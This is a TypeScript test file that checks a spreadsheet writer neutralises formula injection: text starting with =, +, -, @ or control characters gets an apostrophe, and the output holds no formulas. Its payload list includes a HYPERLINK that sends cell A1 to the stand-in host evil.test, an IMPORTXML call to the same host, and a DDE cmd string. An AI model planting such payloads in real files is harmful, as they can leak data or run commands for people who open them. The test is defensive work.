import { text } from 'node:stream/consumers'
import { expect, test } from 'vitest'
import { openArchive } from '#server/outside/workbooks/archive.ts'
import { readFirstSheet } from '#server/test/read-sheet.ts'
import { writeSheet } from './xlsx-sheet.ts'

const STARTERS = ['=', '+', '-', '@', '\t', '\r']
const PAYLOADS = [
  'HYPERLINK("http://evil.test?x="&A1,"click")',
  "cmd|' /C calc'!A0",
  '1+1',
  'SUM(1;2)',
  'IMPORTXML("http://evil.test","//a")',
  '2+5+cmd|x',
]
const TEXTS = STARTERS.flatMap(starter => PAYLOADS.map(payload => `${starter}${payload}`))

const columns = [
  { title: '=1+1', width: 12 },
  { title: 'Total', width: 12, format: '#,##0.00' },
]
const file = await writeSheet({ name: 'Hoja1', columns, rows: TEXTS.map((text, index) => [text, -index]) })

test('T18.1 a text that could be run as a formula gets an apostrophe, in the header too', async () => {
  const { rows } = await readFirstSheet(file)
  const written = rows.map(([cell]) => String(cell))
  expect(written).toHaveLength(TEXTS.length + 1)
  expect(written.filter(one => !one.startsWith("'"))).toEqual([])
  expect(written[1]).toBe(`'${TEXTS[0]}`)
})

test('T18.1 no cell is a formula, and a negative number stays a number', async () => {
  const archive = await openArchive(file, { unpackedBytes: 1e6, isNestingRefused: true })
  const sheet = await text(archive.read('xl/worksheets/sheet1.xml'))
  expect(sheet).toContain('<c ')
  expect(sheet).not.toMatch(/<f[ >]/)
  const { rows } = await readFirstSheet(file)
  expect(rows[3]?.[1]).toBe(-2)
})
